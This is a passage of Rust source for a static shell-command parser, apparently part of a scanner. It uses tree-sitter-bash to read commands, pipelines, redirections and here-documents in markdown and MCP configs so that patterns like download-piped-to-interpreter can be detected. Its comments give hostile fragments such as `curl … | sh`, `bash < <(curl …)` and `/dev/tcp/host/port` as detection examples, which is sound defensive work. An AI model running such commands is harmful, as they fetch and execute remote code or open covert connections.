//! Shell facts (tree-sitter-bash): the simple commands of a snippet with their arguments, where
//! they sit in pipelines and command substitutions, and their redirections.
//!
//! Used to read commands in markdown code blocks, inline code, MCP server configs and shell
//! scripts without executing anything: `curl … | sh` is a pipeline whose first command is a
//! downloader and whose last is an interpreter, not a string a regular expression happens to match.

use std::collections::{BTreeMap, HashMap};

use tree_sitter::Node;

use crate::{
    ParseStop, line, parse_grammar,
    shell_bounds::{self, MAX_MENDING_PASSES, MAX_PIPES_PER_PARSE},
    text,
};

/// One redirection of a command (`> file`, `>> ~/.bashrc`, `>& /dev/tcp/host/port`).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Redirect {
    /// The operator as written (`>`, `>>`, `&>`, `>&`, `<`, `<<<`, …).
    pub op: String,
    /// The target, unquoted (empty for here-documents).
    pub target: String,
    /// The file descriptor written before the operator (`2` in `2>/dev/null`), if any.
    pub fd: Option<u32>,
    /// A here-document's body (`<<EOF` … `EOF`), for a `<<` or `<<-` redirection.
    pub heredoc: Option<Heredoc>,
}

/// The body of a here-document, as written (expansions left unexpanded).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Heredoc {
    /// 1-based line of its first line.
    pub line: u32,
    /// Its text, up to the delimiter line (not included); for `<<-`, without the lines'
    /// leading tabs.
    pub text: String,
    /// Its delimiter was quoted (`<<'EOF'`, `<<"EOF"`, `<<\EOF`): the text is taken as written,
    /// nothing in it is expanded.
    pub quoted: bool,
}

impl Redirect {
    /// Whether it sends the command's standard output somewhere (`>`, `>>`, `>|`, `1>`, `&>`,
    /// `&>>`), not only another descriptor (`2>/dev/null`).
    pub fn takes_stdout(&self) -> bool {
        matches!(self.op.as_str(), ">" | ">>" | ">|" | "&>" | "&>>")
            && self.fd.is_none_or(|f| f == 1)
    }

    /// Whether it gives the command a standard input other than the pipeline's (`< f`, `<<EOF`,
    /// `<<< "$x"`, `0< f`). Not when it reads the pipe after all: a target of `/dev/stdin`,
    /// `/dev/fd/0` or `/proc/self/fd/0`, or text that runs a command as it is expanded (`<<<
    /// "$(cat)"`, `< <(cat)`, a here-document whose delimiter is not quoted holding `$( )` or a
    /// backquote).
    pub fn takes_stdin(&self) -> bool {
        const PIPE: &[&str] = &["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];
        let runs = |t: &str| t.contains("$(") || t.contains('`') || t.contains("<(");
        matches!(self.op.as_str(), "<" | "<<" | "<<-" | "<<<")
            && self.fd.is_none_or(|f| f == 0)
            && !PIPE.contains(&self.target.as_str())
            && !runs(&self.target)
            && self
                .heredoc
                .as_ref()
                .is_none_or(|h| h.quoted || !runs(&h.text))
    }
}

impl ShellCommand {
    /// Whether it reads its standard input from a redirection (`< f`, `<<EOF`, `<<< "$x"`), not
    /// from the pipeline it is in.
    pub fn reads_redirect(&self) -> bool {
        // `3<&0` keeps the pipe on another descriptor (`cat /dev/fd/3 3<&0 <<'EOF'`).
        self.redirects.iter().any(Redirect::takes_stdin)
            && !self
                .redirects
                .iter()
                .any(|r| r.op == "<&" && r.target == "0")
    }
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ShellCommand {
    /// The command name as written, unquoted (`curl`, `/bin/sh`, `sudo`).
    pub name: String,
    /// Its arguments in order, unquoted (expansions kept as written: `$(env)`, `$HOME`).
    pub args: Vec<String>,
    /// 1-based line.
    pub line: u32,
    /// The pipeline it belongs to (an id shared by the commands of one pipeline; a command alone
    /// is its own pipeline).
    pub pipeline: u32,
    /// Its position in that pipeline (0 = first; data flows from lower to higher positions).
    pub position: u32,
    /// The top-level statement it belongs to (commands chained by `&&`, `||`, `;` on one line
    /// inside a list share it).
    pub statement: u32,
    /// The command whose argument (or redirection) holds the command substitution this command
    /// runs in (`curl` in `bash -c "$(curl …)"` has the index of `bash`), if any.
    pub parent: Option<usize>,
    /// The command whose standard input is the process substitution this command runs in
    /// (`curl` in `bash < <(curl …)` has the index of `bash`), if any: its output is that
    /// command's input, as through a pipe (not an argument: `parent` is `None` then).
    pub feeds: Option<usize>,
    /// The variable whose value is the command substitution this command runs in, when no
    /// command takes it as an argument (`curl` in `X=$(curl …)`, `local X="$(curl …)"`).
    pub assigned_to: Option<String>,
    /// Its redirections.
    pub redirects: Vec<Redirect>,
}

/// The commands of a snippet, in source order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellFacts {
    /// Every simple command, nested ones included ([`ShellFacts::commands`]; not public: the
    /// indexes below are built from it, and a caller that edited it would read stale ones).
    commands: Vec<ShellCommand>,
    /// tree-sitter had to recover from syntax errors (facts may be partial).
    pub has_errors: bool,
    /// The parse went over its budget: no facts.
    pub timed_out: bool,
    /// Text left out of the parse as past the reader's bounds, in order.
    pub unread: Vec<Unread>,
    /// Every variable assignment, in source order ([`ShellFacts::assignments`]).
    assignments: Vec<Assignment>,
    /// Each pipeline's commands in source order (pipeline id → indexes): what
    /// [`ShellFacts::downstream`] and [`ShellFacts::pipeline`] read, so that a snippet of many
    /// commands costs each of them its own pipeline, not the whole snippet.
    members: BTreeMap<u32, Vec<usize>>,
    /// The commands whose [`ShellCommand::parent`] each command is (index → indexes).
    inner: BTreeMap<usize, Vec<usize>>,
}

/// A variable assignment: alone (`X=v`), declared (`export X=v`, `local X="$(…)"`) or written
/// before a command (`GIT_SSH_COMMAND=… git fetch`, that command's environment only).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    /// The variable's name.
    pub name: String,
    /// Its value, unquoted as an argument is (expansions kept as written: `$(curl …)`).
    pub value: String,
    /// 1-based line.
    pub line: u32,
    /// The command it is written before, if any (an index into [`ShellFacts::commands`]).
    pub command: Option<usize>,
}

/// Shell text left out of the parse: no real command comes near it, and tree-sitter's time
/// and memory on it grow with the square of its length (see [`crate::shell_bounds`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Unread {
    /// A statement of `stages` pipeline stages, more than [`MAX_PIPELINE_STAGES`](shell_bounds::MAX_PIPELINE_STAGES): the
    /// stages past the bound are not parsed, the ones before it are.
    Pipeline {
        /// 1-based line where it starts.
        line: u32,
        /// Its pipeline stages.
        stages: usize,
    },
    /// A statement holding `pipes` `|` characters, more than [`MAX_PIPES_PER_PARSE`], most of
    /// them quoted as far as the statement reading could tell: not parsed, since a reading
    /// that far off would hand the parser a pipeline as long.
    Pipes {
        /// 1-based line where it starts.
        line: u32,
        /// Its `|` characters (`||` included).
        pipes: usize,
    },
    /// A here-document the grammar reads otherwise than bash (as one no line ends, so the
    /// rest of the piece is not read as commands) that was not mended: past the
    /// [`MAX_MENDING_PASSES`] parses (or the time) its text is given to mend them, or of a kind
    /// no edit mends.
    Documents {
        /// 1-based line where it starts.
        line: u32,
    },
}

impl Unread {
    /// The 1-based line it starts at.
    pub fn line(&self) -> u32 {
        match self {
            Unread::Pipeline { line, .. }
            | Unread::Pipes { line, .. }
            | Unread::Documents { line } => *line,
        }
    }
}

impl ShellFacts {
    /// Every simple command, nested ones included, in source order.
    pub fn commands(&self) -> &[ShellCommand] {
        &self.commands
    }

    /// Every variable assignment, nested ones included, in source order.
    pub fn assignments(&self) -> &[Assignment] {
        &self.assignments
    }

    /// The commands of `command`'s pipeline that come after it and read what it writes: up to
    /// the first that reads its input from a redirection instead (`curl u | cat <<EOF | sh`:
    /// `sh` runs the document, not the download).
    pub fn downstream(&self, command: usize) -> impl Iterator<Item = (usize, &ShellCommand)> {
        let c = &self.commands[command];
        self.pipeline(command)
            .filter(move |(_, o)| o.position > c.position)
            .take_while(|(_, o)| !o.reads_redirect())
    }

    /// The commands of `command`'s pipeline before it whose output reaches it: none when it
    /// reads its input from a redirection, else those from the last that does (its own output
    /// flows on) — `a | cat <<EOF | b` feeds `b` from `cat` only.
    pub fn upstream(&self, command: usize) -> impl Iterator<Item = (usize, &ShellCommand)> {
        let c = &self.commands[command];
        let before = || {
            self.pipeline(command)
                .filter(move |(_, o)| o.position < c.position)
        };
        let from = if c.reads_redirect() {
            u32::MAX
        } else {
            before()
                .filter(|(_, o)| o.reads_redirect())
                .map(|(_, o)| o.position)
                .max()
                .unwrap_or(0)
        };
        before().filter(move |(_, o)| o.position >= from)
    }

    /// The commands of `command`'s pipeline (itself included), in source order.
    pub fn pipeline(&self, command: usize) -> impl Iterator<Item = (usize, &ShellCommand)> {
        self.members
            .get(&self.commands[command].pipeline)
            .map_or(&[][..], Vec::as_slice)
            .iter()
            .map(|&j| (j, &self.commands[j]))
    }

    /// The commands that run in the command substitutions of `command`'s words (those whose
    /// [`ShellCommand::parent`] it is), in source order.
    pub fn inner(&self, command: usize) -> impl Iterator<Item = (usize, &ShellCommand)> {
        self.inner
            .get(&command)
            .map_or(&[][..], Vec::as_slice)
            .iter()
            .map(|&j| (j, &self.commands[j]))
    }
}

/// The commands of `source` (within [`crate::DEFAULT_PARSE_BUDGET`]).
pub fn shell_commands(source: &str) -> ShellFacts {
    shell_commands_within(source, crate::DEFAULT_PARSE_BUDGET)
}

/// [`shell_commands`] with a time budget for the parse.
///
/// A statement's stages past [`MAX_PIPELINE_STAGES`](shell_bounds::MAX_PIPELINE_STAGES) are not parsed (the rest is) and are
/// listed in [`ShellFacts::unread`], as is a statement holding more than
/// [`MAX_PIPES_PER_PARSE`] `|` characters; text holding more is parsed in pieces of whole
/// statements (see [`crate::shell_bounds`]).
pub fn shell_commands_within(source: &str, budget: std::time::Duration) -> ShellFacts {
    let started = std::time::Instant::now();
    let statements = shell_bounds::statements(source);
    let mut unread = Vec::new();
    let mut blanked: Option<Vec<u8>> = None;
    for s in &statements {
        // Delimiters past ASCII, whose documents the grammar ends nowhere, are given to it as
        // ASCII here (`_`, or a byte no body line would then end on), all at once: mended one parse at a time (`ascii_delimiter`), each such
        // document would cost one of the passes.
        for (range, filler) in &s.past_ascii {
            let text = blanked.get_or_insert_with(|| source.as_bytes().to_vec());
            for b in &mut text[range.clone()] {
                if !b.is_ascii() {
                    *b = *filler;
                }
            }
        }
        let line = || line_at(source, first_word(source, s.bytes.start));
        let mut kept = s.bytes.clone();
        if let Some(cut) = s.cut {
            unread.push(Unread::Pipeline {
                line: line(),
                stages: s.pipes + 1,
            });
            let text = blanked.get_or_insert_with(|| source.as_bytes().to_vec());
            if cut.clean {
                // The stages from the bound on are left out; the ones before it are read, and
                // the statement still ends where it did (its separator is blanked with the
                // rest).
                blank(text, cut.at..s.bytes.end);
                text[cut.at] = b';';
                kept = s.bytes.start..cut.at;
            } else {
                // Cut inside a quote, a substitution or before a here-document's body: the
                // head would swallow what follows, so none of it is read.
                blank(text, s.bytes.clone());
                kept = s.bytes.start..s.bytes.start;
            }
        }
        let pipes = shell_bounds::pipe_chars(&source.as_bytes()[kept.clone()]);
        if pipes > MAX_PIPES_PER_PARSE {
            unread.push(Unread::Pipes {
                line: line(),
                pipes,
            });
            blank(
                blanked.get_or_insert_with(|| source.as_bytes().to_vec()),
                kept,
            );
        }
    }
    // Blanking and `_` for a delimiter's bytes keep every line end and replace whole
    // characters, so the text stays UTF-8.
    let text = blanked.map_or(std::borrow::Cow::Borrowed(source), |b| {
        std::borrow::Cow::Owned(String::from_utf8_lossy(&b).into_owned())
    });
    let mut facts = ShellFacts::default();
    let mut passes_left = MAX_MENDING_PASSES;
    for piece in shell_bounds::pieces(&text, &statements, MAX_PIPES_PER_PARSE) {
        let part = &text[piece.clone()];
        let Some(left) = budget.checked_sub(started.elapsed()) else {
            facts.timed_out = true;
            break;
        };
        let part_facts = parse_piece(part, left, &mut passes_left);
        if part_facts.timed_out {
            facts.timed_out = true;
            break;
        }
        let lines = line_at(&text, piece.start) - 1;
        let offset = u32::try_from(piece.start).unwrap_or(u32::MAX);
        let before = facts.commands.len();
        facts
            .assignments
            .extend(part_facts.assignments.into_iter().map(|mut a| {
                a.line += lines;
                a.command = a.command.map(|c| c + before);
                a
            }));
        facts.has_errors |= part_facts.has_errors;
        unread.extend(part_facts.unread.into_iter().map(|u| match u {
            Unread::Documents { line } => Unread::Documents { line: line + lines },
            other => other,
        }));
        facts
            .commands
            .extend(part_facts.commands.into_iter().map(|mut c| {
                c.line += lines;
                c.pipeline = c.pipeline.saturating_add(offset);
                c.statement = c.statement.saturating_add(offset);
                c.parent = c.parent.map(|p| p + before);
                c.feeds = c.feeds.map(|p| p + before);
                for doc in c.redirects.iter_mut().filter_map(|r| r.heredoc.as_mut()) {
                    doc.line += lines;
                }
                c
            }));
    }
    if facts.timed_out {
        // Over the budget: no facts, as a parse stopped whole gives none.
        facts.commands.clear();
        facts.assignments.clear();
    }
    unread.sort_by_key(Unread::line);
    facts.unread = unread;
    for (i, c) in facts.commands.iter().enumerate() {
        facts.members.entry(c.pipeline).or_default().push(i);
        if let Some(p) = c.parent {
            facts.inner.entry(p).or_default().push(i);
        }
    }
    facts
}

/// Replaces `range` of `bytes` with blanks, keeping line ends.
fn blank(bytes: &mut [u8], range: std::ops::Range<usize>) {
    for b in &mut bytes[range] {
        if *b != b'\n' {
            *b = b' ';
        }
    }
}

/// The index of the first byte at or after `from` that is not a blank or a line end.
fn first_word(src: &str, from: usize) -> usize {
    src.as_bytes()[from..]
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .map_or(from, |p| from + p)
}

/// The 1-based line of byte `at`.
fn line_at(src: &str, at: usize) -> u32 {
    // n line ends before `at` split its text in n + 1 lines.
    let lines = src.as_bytes()[..at].split(|&b| b == b'\n').count();
    u32::try_from(lines).unwrap_or(u32::MAX)
}

/// A parse of `source` in which every here-document is read as bash reads it. tree-sitter-bash
/// reads some as documents no line ends, so the document swallows the rest of the piece
/// (whatever follows would go unread): a start with its descriptor's number before it
/// (`0<<EOF`) or a metacharacter after its word (`cat <<EOF;`, `cat <<EOF|sh`), a redirection
/// after the delimiter that a pipe follows, a subshell closed on the start's line, a delimiter
/// past ASCII. The text is edited as [`misread_starts`] says, every line kept where it was,
/// and the piece is parsed again (a document swallowed by one is found by the next pass).
fn parse_mended<'a>(
    source: &'a str,
    budget: std::time::Duration,
    passes_left: &mut usize,
) -> Result<Mended<'a>, ParseStop> {
    let grammar: tree_sitter::Language = tree_sitter_bash::LANGUAGE.into();
    let started = std::time::Instant::now();
    let mut text = std::borrow::Cow::Borrowed(source);
    let mut fds: HashMap<usize, u32> = HashMap::new();
    let mut tree = parse_grammar(&grammar, &text, budget)?;
    let unmended = loop {
        let misread = misread_starts(&tree, text.as_bytes());
        let Some(first) = misread.iter().map(|m| m.start).min() else {
            break None;
        };
        let left = budget.checked_sub(started.elapsed());
        if *passes_left == 0 || left.is_none() {
            break Some(first);
        }
        *passes_left -= 1;
        let mut edits: Vec<&Edit> = misread.iter().flat_map(|m| &m.edits).collect();
        if edits.is_empty() {
            break Some(first);
        }
        edits.sort_by_key(|e| (e.range.start, e.range.end));
        // Edits that overlap one before them wait for the next pass.
        let mut reach = 0;
        edits.retain(|e| {
            let keep = e.range.start >= reach;
            if keep {
                reach = e.range.end.max(e.range.start + 1);
            }
            keep
        });
        // Where a byte at `at` of this text lands in the next.
        let moved = |at: usize| {
            let before = edits.iter().filter(|e| e.range.end <= at);
            let grown: usize = before.clone().map(|e| e.with.len()).sum();
            let shrunk: usize = before.map(|e| e.range.len()).sum();
            at + grown - shrunk
        };
        let mut bytes = text.as_bytes().to_vec();
        for e in edits.iter().rev() {
            bytes.splice(e.range.clone(), e.with.iter().copied());
        }
        // Only whole ASCII characters were replaced, and ASCII put between characters.
        let Ok(next) = String::from_utf8(bytes) else {
            break Some(first);
        };
        // Out of time, the last parse stands and what it did not mend is reported.
        let Ok(next_tree) = parse_grammar(&grammar, &next, left.unwrap_or_default()) else {
            break Some(first);
        };
        fds = fds.into_iter().map(|(at, fd)| (moved(at), fd)).collect();
        fds.extend(
            misread
                .iter()
                .filter_map(|m| m.digits.as_ref())
                .map(|(d, fd)| (moved(d.end), *fd)),
        );
        text = std::borrow::Cow::Owned(next);
        tree = next_tree;
    };
    Ok(Mended {
        unmended: unmended.map(|at| line_at(&text, at)),
        text,
        tree,
        heredoc_fds: fds,
    })
}

/// [`parse_mended`]'s parse: the text parsed, its tree, and each mended document's
/// descriptor by the byte offset of its `<<`.
struct Mended<'a> {
    text: std::borrow::Cow<'a, str>,
    tree: tree_sitter::Tree,
    heredoc_fds: HashMap<usize, u32>,
    /// The line of the first document left unmended (past the passes or the time).
    unmended: Option<u32>,
}

/// A here-document start the grammar misread ([`misread_starts`]), and how its text is mended.
struct Misread {
    /// Where its node starts.
    start: usize,
    /// The descriptor's number read into the delimiter (`0<<EOF`): its bytes and value.
    digits: Option<(std::ops::Range<usize>, u32)>,
    /// The text's edits that mend it.
    edits: Vec<Edit>,
}

/// Bytes of a text replaced: `range` by `with` (an insertion when `range` is empty).
struct Edit {
    range: std::ops::Range<usize>,
    with: Vec<u8>,
}

/// The here-document starts the grammar misread, and the edits that have them read as bash
/// reads them, each keeping every line where it was:
/// - a descriptor's number read into the delimiter (`0<<EOF`): blanked;
/// - a metacharacter read into it (`cat <<EOF;`, `cat <<EOF|sh`): a blank put before it;
/// - a redirection after the delimiter, which the grammar reads a following pipe into (`cat
///   <<EOF 2>/dev/null | sh`: `sh` a second destination): put before the `<<` (`cat
///   2>/dev/null <<EOF | sh`, the same command);
/// - a delimiter of other than ASCII characters (`<<é`), whose line the grammar does not
///   find: each of its other bytes made `_`, at the start and on that line. Another document
///   the grammar finds no end of where bash does is left as it is (no edit: reported).
/// - a subshell or substitution closed on the start's line (`(cat <<EOF)`, `(cat <<EOF) | sh`,
///   `x=$(cat <<EOF)`, `echo "$(cat <<EOF)" > f`), which the grammar reads no document in: the
///   rest of the line from its `)` moved to after the document's last line;
/// - a document started in backquotes that close on its line (`` x=`cat <<EOF` ``): bash reads
///   it empty and the lines after it as commands; its `<<` and word are blanked.
fn misread_starts(tree: &tree_sitter::Tree, src: &[u8]) -> Vec<Misread> {
    let mut out = Vec::new();
    let mut cursor = tree.walk();
    let mut stack = vec![tree.root_node()];
    while let Some(n) = stack.pop() {
        if n.kind() == "heredoc_redirect" {
            out.extend(redirect_before_pipe(n, src));
            out.extend(unended(n, src));
        }
        if n.kind() != "heredoc_start" {
            stack.extend(n.children(&mut cursor));
            continue;
        }
        let start = n.start_byte();
        let t = &src[n.byte_range()];
        let count = t.iter().take_while(|b| b.is_ascii_digit()).count();
        let mut word = 0;
        let mut digits = None;
        let mut edits = Vec::new();
        if count > 0 && t[count..].starts_with(b"<<") {
            digits = std::str::from_utf8(&t[..count])
                .ok()
                .and_then(|d| d.parse().ok())
                .map(|fd| (start..start + count, fd));
            edits.push(Edit {
                range: start..start + count,
                with: vec![b' '; count],
            });
            word = count + 2 + usize::from(t.get(count + 2) == Some(&b'-'));
            word += t[word..]
                .iter()
                .take_while(|b| matches!(b, b' ' | b'\t'))
                .count();
        }
        let end = word + word_end(&t[word..]);
        edits.extend(ascii_delimiter(src, start + word, start + end));
        let after = src[start + end..]
            .iter()
            .position(|b| !matches!(b, b' ' | b'\t'))
            .map_or(src.len(), |p| start + end + p);
        if src.get(after) == Some(&b'`') && in_backquotes(src, start) {
            // In backquotes bash reads the substitution whole first: the document is empty
            // and the lines after it are commands (`` x=`cat <<EOF` ``). Its `<<` and word are
            // blanked, so the grammar reads them so.
            let op = src[..start + word].trim_ascii_end();
            let op = op.strip_suffix(b"-").unwrap_or(op);
            if let Some(lt) = op.len().checked_sub(2).filter(|&lt| op[lt..] == *b"<<") {
                edits.push(Edit {
                    range: lt..start + end,
                    with: vec![b' '; start + end - lt],
                });
            }
        } else if src.get(after) == Some(&b')') {
            edits.extend(closed_on_its_line(src, start + word, after));
        } else if end < t.len() {
            edits.push(Edit {
                range: start + end..start + end,
                with: vec![b' '],
            });
        }
        if !edits.is_empty() {
            out.push(Misread {
                start,
                digits,
                edits,
            });
        }
    }
    out
}

/// [`misread_starts`]' redirection after a delimiter that a pipe follows (`cat <<EOF 2>/dev/null
/// | sh`, read with `|` an error and `sh` a destination): the redirections put before the `<<`,
/// within the same bytes.
fn redirect_before_pipe(h: Node<'_>, src: &[u8]) -> Option<Misread> {
    let mut c = h.walk();
    let start = h
        .children(&mut c)
        .find(|k| k.kind() == "heredoc_start")?
        .end_byte();
    // The error the pipe is read as, in a redirection or the word it ends (`2>/dev/null|sh`).
    let mut c = h.walk();
    let mut stack: Vec<Node<'_>> = h.children_by_field_name("redirect", &mut c).collect();
    let mut pipe = None;
    while let Some(n) = stack.pop() {
        if n.kind() == "ERROR" && src[n.byte_range()].starts_with(b"|") {
            pipe = Some(pipe.map_or(n.start_byte(), |p: usize| p.min(n.start_byte())));
        } else {
            let mut d = n.walk();
            stack.extend(n.children(&mut d));
        }
    }
    let pipe = pipe?;
    let region = h.start_byte()..pipe;
    let redirections = src[start..pipe].trim_ascii();
    let doc = &src[h.start_byte()..start];
    let len = redirections.len() + 1 + doc.len();
    if src[region.clone()].contains(&b'\n') || len > region.len() {
        return None;
    }
    let mut with = Vec::with_capacity(region.len());
    with.extend_from_slice(redirections);
    with.push(b' ');
    with.extend_from_slice(doc);
    with.resize(region.len(), b' ');
    Some(Misread {
        start: h.start_byte(),
        digits: None,
        edits: vec![Edit {
            range: region,
            with,
        }],
    })
}

/// [`misread_starts`]' document whose end the grammar did not find (its `heredoc_end` is
/// missing) where a line bash reads as its end follows, its delimiter ASCII (else
/// [`ascii_delimiter`] mends it): no edit is known, so it is reported as not read.
fn unended(h: Node<'_>, src: &[u8]) -> Option<Misread> {
    let mut c = h.walk();
    let children: Vec<Node<'_>> = h.children(&mut c).collect();
    if !children
        .iter()
        .any(|k| k.kind() == "heredoc_end" && k.is_missing())
    {
        return None;
    }
    let start = children.iter().find(|k| k.kind() == "heredoc_start")?;
    let body = children.iter().find(|k| k.kind() == "heredoc_body")?;
    let (delimiter, strip) = delimiter_at(src, start.start_byte());
    if !delimiter.is_ascii() {
        return None;
    }
    crate::shell_bounds::heredoc_end(src, body.start_byte(), &delimiter, strip)?;
    Some(Misread {
        start: start.start_byte(),
        digits: None,
        edits: Vec::new(),
    })
}

/// The delimiter of the here-document whose word starts at `word` (quotes removed), and
/// whether the body's leading tabs are stripped (`<<-`).
fn delimiter_at(src: &[u8], word: usize) -> (Vec<u8>, bool) {
    let delimiter = crate::shell_bounds::heredoc_delimiter(src, word).word;
    let strip = src[..word].trim_ascii_end().ends_with(b"<<-");
    (delimiter, strip)
}

/// [`misread_starts`]' delimiter with bytes past ASCII (`<<é`), whose end line the grammar does
/// not find: those bytes made `_` at the start (from `word` to `end`) and on the line that ends
/// the document (the first after the start's line). Nothing when no line ends it.
fn ascii_delimiter(src: &[u8], word: usize, end: usize) -> Vec<Edit> {
    let (delimiter, strip) = delimiter_at(src, word);
    if delimiter.is_ascii() {
        return Vec::new();
    }
    let Some(body) = src[end..]
        .iter()
        .position(|&b| b == b'\n')
        .map(|p| end + p + 1)
    else {
        return Vec::new();
    };
    let Some(after) = crate::shell_bounds::heredoc_end(src, body, &delimiter, strip) else {
        return Vec::new();
    };
    let line_end = if src[after - 1] == b'\n' {
        after - 1
    } else {
        after
    };
    let line_start = src[..line_end]
        .iter()
        .rposition(|&b| b == b'\n')
        .map_or(0, |p| p + 1);
    (word..end)
        .chain(line_start..line_end)
        .filter(|&at| !src[at].is_ascii())
        .map(|at| Edit {
            range: at..at + 1,
            with: vec![b'_'],
        })
        .collect()
}

/// Whether byte `at` sits inside backquotes opened on its line (an odd number of unescaped
/// `` ` `` before it there, outside single quotes).
fn in_backquotes(src: &[u8], at: usize) -> bool {
    let line_start = src[..at]
        .iter()
        .rposition(|&b| b == b'\n')
        .map_or(0, |p| p + 1);
    let mut inside = false;
    let mut single = false;
    let mut k = line_start;
    while k < at {
        match src[k] {
            b'\\' if !single => k += 1,
            b'\'' => single = !single,
            b'`' if !single => inside = !inside,
            _ => {}
        }
        k += 1;
    }
    inside
}

/// Where a comment starts in shell `line`: a `#` at a word's start, outside quotes, parameter
/// expansions and command substitutions (`echo "$(cat <<EOF)" " #"` and `${x:- #}` have none).
fn comment_start(line: &[u8]) -> Option<usize> {
    // The open contexts: `"` a double-quoted string, `(` a command substitution, `{` a
    // parameter expansion.
    let mut open: Vec<u8> = Vec::new();
    let mut k = 0;
    while let Some(&b) = line.get(k) {
        let quoted = open.last() == Some(&b'"');
        match b {
            b'\\' => k += 1,
            b'\'' if !quoted => {
                k += line[k + 1..]
                    .iter()
                    .position(|&c| c == b'\'')
                    .map_or(line.len(), |p| p + 1);
            }
            b'"' if quoted => {
                open.pop();
            }
            b'"' => open.push(b'"'),
            b'$' if matches!(line.get(k + 1), Some(b'(' | b'{')) => {
                open.push(line[k + 1]);
                k += 1;
            }
            b')' if open.last() == Some(&b'(') => {
                open.pop();
            }
            b'}' if open.last() == Some(&b'{') => {
                open.pop();
            }
            b'#' if open.is_empty() && (k == 0 || matches!(line[k - 1], b' ' | b'\t' | b';')) => {
                return Some(k);
            }
            _ => {}
        }
        k += 1;
    }
    None
}

/// [`misread_starts`]' subshell or substitution closed on a here-document's line (by the `)`
/// or `` ` `` at `close`; the delimiter word starts at `word`): the rest of the line from it is
/// moved after the document's last line, where the multi-line form writes it (`echo "$(cat
/// <<EOF` … `EOF` then `)" > f`), with a `;` before the line that follows unless it ends in an
/// operator that continues there (a subshell piped on moves its `)` alone). Bash 5.2 reads
/// the document from the next line on, in a
/// substitution too: `x=$(cat <<EOF)` sets `x` to it. A comment at the line's end stays, as
/// does a `\` that continues it. Nothing when the line holds another `<<`, or when no line
/// ends the document.
fn closed_on_its_line(src: &[u8], word: usize, close: usize) -> Vec<Edit> {
    let line_end = src[close..]
        .iter()
        .position(|&b| b == b'\n')
        .map_or(src.len(), |p| close + p);
    if line_end == src.len() {
        return Vec::new();
    }
    let rest = &src[close..line_end];
    if rest.windows(2).any(|w| w == b"<<") {
        return Vec::new();
    }
    let line_start = src[..close]
        .iter()
        .rposition(|&b| b == b'\n')
        .map_or(0, |p| p + 1);
    let moved_end = comment_start(&src[line_start..line_end]).map_or(line_end, |c| line_start + c);
    let mut moved = src[close..moved_end.max(close)].trim_ascii_end();
    if moved.is_empty() {
        return Vec::new();
    }
    // A subshell piped on (`(cat <<EOF) | sh`), or a line continued (`(cat <<EOF) \`): only
    // its `)` moves, so the document's command stays in the pipe (`(cat <<EOF | sh` …
    // `);`: `sh` reads the same text), which the readers of a pipeline follow and not a
    // subshell's output.
    if moved.first() == Some(&b')')
        && (moved[1..].trim_ascii_start().starts_with(b"|") || moved.ends_with(b"\\"))
    {
        moved = &moved[..1];
    }
    let (delimiter, strip) = delimiter_at(src, word);
    let Some(end) = crate::shell_bounds::heredoc_end(src, line_end + 1, &delimiter, strip) else {
        return Vec::new();
    };
    let mut with = Vec::with_capacity(moved.len() + 2);
    if src[end - 1] != b'\n' {
        with.push(b'\n');
    }
    with.extend_from_slice(moved);
    if end < src.len() && !matches!(moved.last(), Some(b';' | b'&' | b'|')) {
        with.push(b';');
    }
    vec![
        Edit {
            range: close..close + moved.len(),
            with: vec![b' '; moved.len()],
        },
        Edit {
            range: end..end,
            with,
        },
    ]
}

/// The length of the shell word `t` starts with: up to its first metacharacter outside quotes
/// (a blank, `|`, `&`, `;`, `(`, `)`, `<`, `>`), or a backtick (which ends the substitution a
/// here-document's start is read in first: `` `cat <<EOF` ``).
fn word_end(t: &[u8]) -> usize {
    let mut quote = None;
    let mut i = 0;
    while let Some(&c) = t.get(i) {
        match quote {
            Some(q) if c == q => quote = None,
            None if c == b'\\' => i += 1,
            None if c == b'\'' || c == b'"' => quote = Some(c),
            None if b" \t\n|&;()<>`".contains(&c) => return i,
            _ => {}
        }
        i += 1;
    }
    t.len()
}

/// The commands of one piece of text, read from one parse.
fn parse_piece(source: &str, budget: std::time::Duration, passes_left: &mut usize) -> ShellFacts {
    let Mended {
        text,
        tree,
        heredoc_fds,
        unmended,
    } = match parse_mended(source, budget, passes_left) {
        Ok(parsed) => parsed,
        Err(stop) => {
            return ShellFacts {
                timed_out: stop == ParseStop::TimedOut,
                ..ShellFacts::default()
            };
        }
    };
    let source: &str = &text;
    let root = tree.root_node();
    let src = source.as_bytes();
    let mut nodes: Vec<(Node<'_>, Context<'_>)> = Vec::new();
    // Each node's parent, recorded on the way down: tree-sitter finds a parent by walking down
    // from the root, which a deeply nested file would make quadratic per command. What a
    // command needs of its ancestors (its statement, the command its substitution is an
    // argument of) is carried down too, for the same reason (`a && b && …` nests one level per
    // command).
    let mut parents: HashMap<usize, Node<'_>> = HashMap::new();
    let mut stack = vec![(root, Context::default())];
    let mut assigned: Vec<Node<'_>> = Vec::new();
    while let Some((n, at)) = stack.pop() {
        match n.kind() {
            "command" => nodes.push((n, at)),
            "variable_assignment" => assigned.push(n),
            _ => {}
        }
        let below = Context {
            statement: if n.id() == root.id() {
                None
            } else {
                at.statement.or(Some(n))
            },
            holder: match n.kind() {
                "command" | "variable_assignment" => Some(n),
                _ => at.holder,
            },
            substitution_holder: if matches!(
                n.kind(),
                "command_substitution" | "process_substitution"
            ) {
                at.holder
            } else {
                at.substitution_holder
            },
            substitution_input: if matches!(
                n.kind(),
                "command_substitution" | "process_substitution"
            ) {
                at.input
            } else {
                at.substitution_input
            },
            // Only as far as the substitution: a command there holds its own.
            input: at.input && !matches!(n.kind(), "command" | "variable_assignment"),
        };
        // `bash < <(curl …)`: what a process substitution read as a command's input runs in is
        // that command's (as `bash <(curl …)`'s is `bash`'s), though the grammar puts the
        // redirection beside the command, not in it.
        let reader = (n.kind() == "redirected_statement")
            .then(|| n.child_by_field_name("body"))
            .flatten()
            .filter(|b| b.kind() == "command");
        let mut c = n.walk();
        for child in n.children(&mut c) {
            parents.insert(child.id(), n);
            let below = match reader {
